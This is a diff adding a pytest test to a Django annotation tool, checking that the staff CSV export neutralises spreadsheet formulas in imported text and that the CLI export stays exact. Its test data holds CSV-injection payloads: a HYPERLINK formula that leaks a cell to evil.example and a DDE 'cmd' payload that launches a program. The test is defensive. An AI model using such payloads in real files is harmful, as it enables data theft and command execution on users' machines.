@@ -4,6 +4,7 @@ import csv
 import io
 
 import pytest
+from django.core.management import call_command
 from rest_framework.authtoken.models import Token
 from rest_framework.test import APIClient
 
@@ -176,3 +177,25 @@ def test_results_page_of_another_task_type_is_404(client, staff_user):
     assert response.status_code == 404
     assert ("Project &#x27;other&#x27; is a &#x27;sentence_label&#x27; project, not &#x27;validity_novelty&#x27;."
             in response.content.decode())
+
+
+def test_the_download_writes_formula_cells_as_text_and_the_cli_export_stays_exact(tmp_path, client, staff_user):
+    """A premise, conclusion, topic or extra column that starts like a formula (an importer's or a worker's text) is
+    written with a leading ' in the staff page's download, so a spreadsheet shows it instead of running it; labels
+    (-1 included) stay numbers; ``manage.py valnov export`` writes the shared-task file exactly."""
+    evil = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3"]
+    row = f'"{evil[3]}","{evil[0].replace(chr(34), chr(34) * 2)}",{evil[1]},-1,very confident,1,majority,no,{evil[2]}'
+    p = results.get_project("formulas", create=True, items_per_hit=1, status="active")
+    results.import_file(p, write(tmp_path, csv_text([row])))
+    client.force_login(staff_user)
+    r = client.get("/projects/formulas/valnov/export.csv")
+    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
+    [got] = list(csv.DictReader(io.StringIO(r.content.decode())))
+    assert (got["topic"], got["Premise"], got["Conclusion"], got["note"]) == tuple("'" + e for e in
+                                                                                   (evil[3], evil[0], evil[1], evil[2]))
+    assert (got["Validity"], got["Novelty"], got["Validity-Confidence"]) == ("-1", "1", "very confident")
+    out = tmp_path / "exact.csv"
+    call_command("valnov", "export", "--project", "formulas", "--out", str(out))
+    [exact] = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
+    assert (exact["topic"], exact["Premise"], exact["Conclusion"], exact["note"]) == (evil[3], evil[0], evil[1],
+                                                                                      evil[2])
